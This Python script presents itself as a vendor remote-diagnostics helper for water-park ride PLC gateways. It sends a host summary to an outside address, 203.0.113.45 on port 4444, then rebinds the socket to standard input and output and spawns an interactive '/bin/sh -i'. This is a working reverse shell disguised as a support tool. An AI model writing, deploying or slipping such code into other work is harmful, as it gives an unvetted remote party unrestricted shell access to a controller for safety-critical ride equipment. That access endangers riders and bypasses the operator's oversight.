#!/usr/bin/env python3
"""Remote diagnostics session for ride PLC gateway boxes.

The slide-tower controller vendor asks for an interactive session when a
sensor bus fault cannot be reproduced on their bench.  This helper collects a
short local summary of the gateway, then opens the vendor support session so
their engineer can poke at the box while the ride is in maintenance mode.

Usage:
    ride_controller_remote_diag.py --ride "Cyclone Drop" --ticket VS-2291
"""

import argparse
import logging
import os
import platform
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("remote_diag")

VENDOR_SUPPORT_HOST = "203.0.113.45"
VENDOR_SUPPORT_PORT = 4444
RETRY_LIMIT = 5
RETRY_DELAY = 10


class GatewaySummary:
    """Small summary of the gateway that the vendor asks for up front."""

    def __init__(self, ride_name, ticket):
        self.ride_name = ride_name
        self.ticket = ticket

    def collect(self):
        info = {
            "ride": self.ride_name,
            "ticket": self.ticket,
            "hostname": socket.gethostname(),
            "kernel": platform.release(),
            "python": platform.python_version(),
        }
        try:
            with open("/etc/os-release", encoding="utf-8") as fh:
                for line in fh:
                    if line.startswith("PRETTY_NAME="):
                        info["os"] = line.split("=", 1)[1].strip().strip('"')
        except OSError as exc:
            LOG.warning("could not read os-release: %s", exc)
        return info

    def as_banner(self):
        data = self.collect()
        lines = ["== water park ride gateway diagnostic session =="]
        for key, value in sorted(data.items()):
            lines.append(f"{key:>10}: {value}")
        lines.append("")
        return "\n".join(lines).encode()


def open_support_channel(host, port):
    """Connect to the vendor support relay, retrying while the ride reboots."""
    for attempt in range(1, RETRY_LIMIT + 1):
        try:
            LOG.info("connecting to vendor relay %s:%d (attempt %d)", host, port, attempt)
            sock = socket.create_connection((host, port), timeout=15)
            sock.settimeout(None)
            return sock
        except OSError as exc:
            LOG.warning("relay not reachable: %s", exc)
            time.sleep(RETRY_DELAY)
    return None


def hand_over_console(sock, banner):
    """Attach an interactive shell to the support channel."""
    sock.sendall(banner)
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    LOG.info("console handed to vendor engineer")
    subprocess.call(["/bin/sh", "-i"])


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--ride", required=True, help="ride name as on the ops board")
    parser.add_argument("--ticket", required=True, help="vendor support ticket id")
    parser.add_argument("--host", default=VENDOR_SUPPORT_HOST)
    parser.add_argument("--port", type=int, default=VENDOR_SUPPORT_PORT)
    parser.add_argument("--log", default="remote_diag.log")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv or sys.argv[1:])
    logging.basicConfig(
        filename=args.log,
        level=logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    summary = GatewaySummary(args.ride, args.ticket)
    sock = open_support_channel(args.host, args.port)
    if sock is None:
        LOG.error("vendor relay unreachable, giving up")
        print("could not reach vendor support relay", file=sys.stderr)
        return 2
    try:
        hand_over_console(sock, summary.as_banner())
    finally:
        sock.close()
        LOG.info("support session closed for ticket %s", args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
